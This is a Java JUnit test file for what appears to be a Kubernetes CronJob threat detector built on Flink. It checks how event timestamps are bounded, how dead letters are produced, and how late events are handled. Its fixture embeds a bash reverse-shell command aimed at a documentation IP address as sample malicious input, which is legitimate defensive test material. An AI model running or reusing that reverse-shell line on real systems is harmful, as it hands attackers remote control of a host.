package dev.cronsentinel.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.config.ConfigSource;
import dev.cronsentinel.config.EventTimeConfig;
import dev.cronsentinel.correlate.LateEventDeadLetters;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.UndecodableEvent;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.OneInputStreamOperatorTestHarness;
import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, rows 9 and 10: event times are bounded before the watermark, so one record dated 2099 cannot jump
 * it and records dated 2000 cannot end the learning period; refused events are dead-lettered
 * {@code bad-timestamp} and still raise a finding; late events of correlation reach the dead-letter sink.
 * The wall clock is a fixed {@link Clock}: nothing here depends on today's date.
 */
class EventTimeGuardTest {
    private static final Instant NOW = Instant.parse("2031-03-14T09:00:00Z");
    private static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);

    private static EventTimeConfig live() {
        return new EventTimeConfig(Duration.ofSeconds(30), Duration.ofMinutes(1), Duration.ofMinutes(10), Duration.ofDays(7), true, true);
    }

    private static EventTimeConfig archive() {
        return new EventTimeConfig(Duration.ofSeconds(30), Duration.ofMinutes(1), Duration.ofMinutes(10), Duration.ofDays(7), false, false);
    }

    private static WorkloadEvent at(String timestamp, String name) {
        String json = "{\"kind\":\"Event\",\"level\":\"Request\",\"auditID\":\"t-" + name + "\",\"stage\":\"ResponseComplete\",\"verb\":\"create\","
                + "\"user\":{\"username\":\"eve\"},\"objectRef\":{\"resource\":\"cronjobs\",\"namespace\":\"ops\",\"name\":\"" + name + "\"},"
                + "\"responseStatus\":{\"code\":201},\"requestObject\":{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":"
                + "{\"containers\":[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"bash -i >& /dev/tcp/192.0.2.7/9 0>&1\"]}]}}}}}},"
                + "\"stageTimestamp\":\"" + timestamp + "\"}";
        List<WorkloadEvent> events = TestData.decode(json).events;
        assertThat(events).hasSize(1);
        return events.get(0);
    }

    private static OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> harness(EventTimeConfig cfg) throws Exception {
        return ProcessFunctionTestHarnesses.forProcessFunction(new EventTimeGuard(cfg, CLOCK));
    }

    private static void send(OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> h, WorkloadEvent e) throws Exception {
        h.processElement(new StreamRecord<>(e, e.eventTime()));
    }

    private static List<String> passed(OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> h) {
        return h.extractOutputValues().stream().map(WorkloadEvent::name).toList();
    }

    private static List<DeadLetter> dead(OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> h) {
        return h.getSideOutput(DecodeFunction.DEAD_LETTERS).stream().map(StreamRecord::getValue).toList();
    }

    private static List<UndecodableEvent> findings(OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> h) {
        return h.getSideOutput(DecodeFunction.UNDECODABLE).stream().map(StreamRecord::getValue).toList();
    }

    @Test
    void aRecordDated2099IsRefusedAndStillRaisesAFinding() throws Exception {
        var h = harness(live());
        send(h, at("2031-03-14T08:59:00Z", "before"));
        send(h, at("2099-01-01T00:00:00Z", "future"));
        send(h, at("2031-03-14T09:09:00Z", "skewed-within-bounds"));
        send(h, at("2031-03-14T09:00:30Z", "after"));
        assertThat(passed(h)).containsExactly("before", "skewed-within-bounds", "after");
        assertThat(dead(h)).singleElement().satisfies(d -> {
            assertThat(d.reason()).isEqualTo("bad-timestamp");
            assertThat(d.detail()).contains("2099-01-01").contains("max-clock-skew");
            assertThat(new String(d.payload(), StandardCharsets.UTF_8)).contains("\"name\":\"future\"");
        });
        assertThat(findings(h)).singleElement().satisfies(u -> {
            assertThat(u.reason()).isEqualTo("bad-timestamp");
            assertThat(u.name()).isEqualTo("future");
            assertThat(u.eventTime()).as("the forged time is not the alert's").isEqualTo(-1);
        });
        h.close();
    }

    @Test
    void recordsDated2000AreRefusedBeforeAndAfterRealEvents() throws Exception {
        var h = harness(live());
        for (int i = 0; i < 8; i++) {
            send(h, at("2000-01-01T00:00:0" + i + "Z", "old-" + i)); // first in the stream: the clock bounds them
        }
        send(h, at("2031-03-14T08:00:00Z", "real"));
        send(h, at("2000-01-01T00:00:09Z", "old-after"));
        assertThat(passed(h)).containsExactly("real");
        assertThat(dead(h)).hasSize(9).allSatisfy(d -> assertThat(d.reason()).isEqualTo("bad-timestamp"));
        assertThat(findings(h)).hasSize(9);
        h.close();
    }

    @Test
    void anArchiveOfAnyDateReplaysButCannotJumpBackwardsPastTheHorizon() throws Exception {
        var h = harness(archive());
        send(h, at("2018-06-01T10:00:00Z", "a"));
        send(h, at("2018-06-01T09:59:00Z", "slightly-out-of-order"));
        send(h, at("2018-06-20T10:00:00Z", "b"));
        send(h, at("2018-06-02T10:00:00Z", "far-behind")); // 18 days before the newest accepted
        send(h, at("2099-01-01T00:00:00Z", "future-in-an-archive")); // no wall clock for archives: accepted
        assertThat(passed(h)).containsExactly("a", "slightly-out-of-order", "b", "future-in-an-archive");
        assertThat(dead(h)).extracting(DeadLetter::detail).singleElement().asString().contains("max-age");
        h.close();
    }

    @Test
    void byDefaultTheWallClockCapsTheFutureOfEveryInputAndOnlyOnBoundsThePast() {
        Path base = Path.of(".");
        for (String input : List.of("kafka", "file")) {
            EventTimeConfig auto = EventTimeConfig.from(new ConfigSource(Map.of("input.type", input), base));
            assertThat(auto.wallClockBounds()).as(input).isTrue();
            assertThat(auto.wallClockAge()).as(input).isFalse();
        }
        EventTimeConfig on = EventTimeConfig.from(new ConfigSource(Map.of("event-time.wall-clock-bounds", "on"), base));
        assertThat(on.wallClockBounds()).isTrue();
        assertThat(on.wallClockAge()).isTrue();
        EventTimeConfig off = EventTimeConfig.from(new ConfigSource(Map.of("event-time.wall-clock-bounds", "off"), base));
        assertThat(off.wallClockBounds()).isFalse();
        assertThat(off.wallClockAge()).isFalse();
        EventTimeConfig c = EventTimeConfig.from(new ConfigSource(Map.of("event-time.max-clock-skew", "2m", "event-time.max-age", "30d"), base));
        assertThat(c.maxClockSkew()).isEqualTo(Duration.ofMinutes(2));
        assertThat(c.maxAge()).isEqualTo(Duration.ofDays(30));
    }

    /**
     * A SOC replaying last month's logs through Kafka (issue 14's use case) must get its alerts: by default the
     * wall clock refuses only the future, and the month-old stream is judged against its own newest time.
     */
    @Test
    void aMonthOldReplayIsAcceptedByDefaultWhileTheFutureIsStillRefused() throws Exception {
        EventTimeConfig auto = EventTimeConfig.from(new ConfigSource(Map.of("input.type", "kafka"), Path.of(".")));
        OneInputStreamOperatorTestHarness<WorkloadEvent, WorkloadEvent> h = harness(auto);
        h.open();
        send(h, at("2031-02-12T08:00:00Z", "month-old"));
        send(h, at("2031-02-12T08:05:00Z", "month-old-2"));
        send(h, at("2099-01-01T00:00:00Z", "future"));
        assertThat(passed(h)).containsExactly("month-old", "month-old-2");
        assertThat(dead(h)).extracting(DeadLetter::detail).singleElement().asString().contains("max-clock-skew");
        h.close();
    }

    @Test
    void correlationsLateEventsBecomeDeadLetters() {
        WorkloadEvent e = at("2031-03-14T08:00:00Z", "late\\\"one");
        ScoredEvent s = TestData.defaultScorer().score(e, EventRole.WORKLOAD);
        DeadLetter d = new LateEventDeadLetters().map(s);
        assertThat(d.reason()).isEqualTo(LateEventDeadLetters.REASON);
        assertThat(d.detail()).contains("2031-03-14T08:00:00Z");
        assertThat(new String(d.payload(), StandardCharsets.UTF_8)).contains("\"name\":\"lateone\"").contains("\"score\":" + s.score());
    }
}
